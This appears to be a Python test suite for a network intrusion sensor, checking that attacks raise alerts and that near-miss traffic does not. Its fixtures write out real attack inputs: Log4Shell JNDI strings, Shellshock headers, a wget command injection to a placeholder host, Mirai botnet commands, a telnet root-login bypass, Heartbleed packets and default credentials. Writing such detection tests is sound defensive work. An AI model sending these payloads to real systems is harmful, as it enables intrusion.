#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Attacks that dissectors find by themselves are alerts, without a rule; what is nearly one, and
what benign programs do, too, is none.

usage: test_attacks.py PATH_OF_FIELDTAP PATH_OF_FIELDTAP_PLANT [unittest options]
"""

import base64
import struct

import sensor
from sensor import Case, of_type, pcap, run
from traffic import C, S, datagram, http, http_request, icmp, repeat, tcp

# ---- pieces of traffic ----


def post(body, kind="application/json"):
    return http(method="POST", more=f"Content-Type: {kind}\r\n", body=body)


def login(user, password):
    token = base64.b64encode(f"{user}:{password}".encode()).decode()
    return http(more=f"Authorization: Basic {token}\r\n")


def ftp(*said):
    return tcp(21, (S, b"220 ready\r\n"),
               *[turn for line in said for turn in ((C, line + b"\r\n"), (S, b"331 go on\r\n"))])


def telnet(*typed):
    """Behind a login."""
    return tcp(23, (S, b"login: "), (C, b"joe\r\n"), (S, b"\r\nPassword: "), (C, b"x2Y\r\n"),
               (S, b"\r\nLast login: Monday\r\n$ "), *[(C, line + b"\r\n") for line in typed])


def telnet_login(user, password):
    return tcp(23, (S, b"login: "), (C, user + b"\r\n"), (S, b"\r\nPassword: "),
               (C, password + b"\r\n"))


def key_id(length):
    """A name of a key to encrypt with (RFC 2946)."""
    return tcp(23, (S, b"\xff\xfd\x26"), (C, b"\xff\xfb\x26\xff\xfa\x26\x07"
                                           + bytes(range(1, length + 1)) + b"\xff\xf0"))


def heartbeat(kind, announced, data):
    body = struct.pack(">BH", kind, announced) + data
    return b"\x18\3\2" + struct.pack(">H", len(body)) + body


def heartbeats(announced, answer):
    hello = b"\3\2" + bytes(32) + b"\0\0\2\0\x2f\1\0"
    hello = b"\1" + struct.pack(">I", len(hello))[1:] + hello
    return tcp(443, (C, b"\x16\3\1" + struct.pack(">H", len(hello)) + hello),
               (C, heartbeat(1, announced, bytes(32))),
               (S, heartbeat(2, answer, bytes(answer + 16))))


def ping(data):
    return icmp(8, data=data, rest=b"\0\1\0\1")


def inner_packet(length):
    return b"\x45\0" + struct.pack(">H", length) + bytes(36)


def dhcp(option):
    head = struct.pack(">4B", 2, 1, 6, 0) + bytes(24) + b"\0\x80\xf4\1\2\3" + bytes(202)
    options = b"\x63\x82\x53\x63\x35\1\5\x0f" + bytes([len(option)]) + option + b"\xff"
    return lambda client, server: [datagram(server, client, (67, 68), head + options)]


def ssh(from_client):
    def packet(code):
        return struct.pack(">IBB", 12, 10, code) + bytes(10)
    who = C if from_client else S
    return tcp(22, (S, b"SSH-2.0-libssh_0.8.1\r\n"), (C, b"SSH-2.0-x\r\n"), (who, packet(52)))


NESTED = "${${::-j}${env:X:-n}d${lower:I}:ldap://192.0.2.1/a}"
MIRAI = (b"enable", b"system", b"shell", b"sh", b"/bin/busybox ECCHI")

# What is an alert, and what is nearly that.
ROWS = {
    "http.jndi": (
        http(agent="${jndi:ldap://192.0.2.1/a}"), http(agent="${jndi-like}")),
    "http.jndi nested": (http(agent=NESTED), http(agent="${${a}} ${name} ${java:version}")),
    "http.jndi encoded": (
        http(url="/?q=%24%7Bjndi%3Aldap%3A//192.0.2.1%7D"), http(url="/?q=%24%7Bjnd%3A%7D")),
    "http.jndi in a form": (
        post(b"user=%2524%257Bjndi:x%257D", "application/x-www-form-urlencoded"),
        post(b"user=%2524%257Bjn:x%257D", "application/x-www-form-urlencoded")),
    "http.jndi in JSON": (post(b'{"user": "\\u0024{jndi:x}"}'), post(b'{"user": "${user}"}')),
    "http.jndi in any body": (post(NESTED.encode(), "x/y"), post(NESTED[:-30].encode(), "x/y")),
    "http.jndi logs in": (login("${jndi:x}", "a"), login("${jn", "di:x}")),
    "http.shellshock": (
        http(agent="() { :;}; /usr/bin/id"), http(agent="f=function() { return 1 }")),
    "http.shellshock without blanks": (http(agent="(){:;};id"), http(agent="f(){:;};id")),
    "http.command_injection": (
        http(url="/cgi-bin/a?b=;wget+http://192.0.2.1/x"), http(url="/bin/show.cgi?f=wget")),
    "http.scanner": (http(agent="sqlmap/1.7"), http(agent="Mozilla/5.0 (sql map)")),
    "http.default_login": (login("admin", "admin"), login("admin", "x2Y")),
    "ftp.default_login": (ftp(b"USER admin", b"PASS admin"), ftp(b"USER admin", b"PASS x2Y")),
    "ftp.backdoor_user": (ftp(b"USER a:)b"), ftp(b"USER a:b)")),
    "ftp.server_exploit": (ftp(b"SITE CPFR /etc/passwd"), ftp(b"SITE CHMOD 644 a")),
    "telnet.default_login": (telnet_login(b"admin", b"admin"), telnet_login(b"admin", b"x2Y")),
    "telnet.login_bypass": (telnet_login(b"-froot", b""), telnet_login(b"froot", b"x2Y")),
    "telnet.long_key_id": (key_id(65), key_id(64)),
    "telnet.botnet_commands": (telnet(*MIRAI), telnet(b"enable", b"show system", b"busybox ls")),
    "tls.heartbleed_request": (heartbeats(16384, 16), heartbeats(16, 16)),
    "tls.heartbleed_response": (heartbeats(16, 8192), heartbeats(16, 15)),
    "ssh.client_says_success": (ssh(True), ssh(False)),
    "icmp.tunnel": (ping(inner_packet(40)), ping(inner_packet(41))),
    "dhcp.shell_function": (dhcp(b"() { :;}; id"), dhcp(b"plant.example")),
}

# All violations of these protocols that are alerts: no row loses its mark, or gets one, unseen.
MARKED = {
    "http": {"jndi", "shellshock", "command_injection", "scanner", "default_login"},
    "ftp": {"default_login", "login_failed", "backdoor_user", "server_exploit"},
    "ftp_data": set(),
    "telnet": {"default_login", "login_bypass", "long_key_id", "botnet_commands"},
    "tls": {"heartbleed_request", "heartbleed_response"},
    "ssh": {"client_says_success"},
    "snmp": set(),
    "tftp": set(),
    "dns": set(),
    "syslog": set(),
    "icmp": {"tunnel"},
    "icmpv6": {"tunnel"},
    "dhcp": {"no_address", "shell_function"},
    "cdp": {"power_levels", "format_string"},
    "goose": {"st_num_high", "needs_commissioning", "settings_changed", "second_publisher",
              "publisher_changed"},
}

# What is told as an anomaly, but is no alert.
ANOMALIES = {
    "http.traversal": http(url="/a/../b"),
    "http.double_encoding": http(url="/a%252fb"),
    "http.sql_or_script_injection": http(url="/?a=1+union+select+2"),
    "http.scripted_client": http(agent="python-requests/2.31"),
    "http.credential_clear_text": login("joe", "x2Y"),
    "ftp.traversal": ftp(b"CWD ../.."),
    "ftp.anonymous_login": ftp(b"USER anonymous"),
    "ftp.bounce": ftp(b"PORT 10,99,99,99,200,1"),
    "telnet.credential_clear_text": telnet_login(b"joe", b"x2Y"),
    "telnet.file_drop": telnet(b"tftp -g 192.0.2.1 -r firmware.bin"),
    "icmp.large_echo": ping(bytes(1473)),
    "dhcp.shell_command": dhcp(b"a;b"),
}


def capture_of(rows):
    """Each between two hosts of its own."""
    frames = []
    for i, conversation in enumerate(rows):
        for frame in conversation((10, 1, i, 1), (10, 1, i, 2)):
            frames.append((len(frames) * 0.0005, frame))
    frames.append((frames[-1][0] + 1, sensor.udp(b"later")))
    return pcap(frames)


class Attacks(Case):
    def told(self, kind, rows):
        """Names that were told, by the row between whose hosts."""
        self.assertOk(run("-q", "-r", self.write("a.pcap", capture_of(rows)), "-l", self.out))
        told = {}
        for event in of_type(self.events(), kind):
            if event["fieldtap"].get("state", "new") != "new":
                continue  # told again, with its count
            host = next((ip for ip in (event["src_ip"], event["dest_ip"])
                         if ip.startswith("10.1.")), None)
            if host:
                told.setdefault(int(host.split(".")[2]), []).append(self.name(kind, event))
        return told

    @staticmethod
    def name(kind, event):
        if kind == "anomaly":
            return f"{event['anomaly'].get('app_proto', '')}.{event['anomaly']['event']}"
        return event["fieldtap"]["title"]

    def test_they_are_alerts(self):
        told = self.told("alert", [row[0] for row in ROWS.values()])
        for i, name in enumerate(ROWS):
            with self.subTest(name):
                self.assertEqual(told.get(i, []).count(name.split()[0]), 1, told.get(i))

    def test_near_misses(self):
        told = self.told("alert", [row[1] for row in ROWS.values()])
        names = {name.split()[0] for name in ROWS}
        self.assertEqual([t for row in told.values() for t in row if t in names], [])

    def test_marked(self):
        for protocol, names in MARKED.items():
            with self.subTest(protocol):
                rows = run("--describe", protocol).out.split("\nViolations\n")[1].splitlines()[1:]
                marked = {row.split()[0] for row in rows if row.split()[2:3] == ["alert"]}
                self.assertEqual(marked, names)

    def test_repeated(self):
        """A flood of one attack is one alert, which says how often."""
        request = http_request(agent="${jndi:x}")
        flood = repeat(50, lambda i: tcp(80, (C, request), source=40000 + i))
        self.assertEqual(self.told("alert", [flood])[0].count("http.jndi"), 1)
        ends = [e for e in of_type(self.events(), "alert") if e["fieldtap"]["title"] == "http.jndi"]
        self.assertEqual(ends[-1]["fieldtap"]["count"], 50)

    def test_anomalies(self):
        rows = list(ANOMALIES.values())
        told = self.told("anomaly", rows)
        for i, name in enumerate(ANOMALIES):
            with self.subTest(name):
                self.assertIn(name, told.get(i, []))
        alerts = [t for row in self.told("alert", rows).values() for t in row]
        self.assertFalse(set(alerts) & set(ANOMALIES))


if __name__ == "__main__":
    sensor.main()
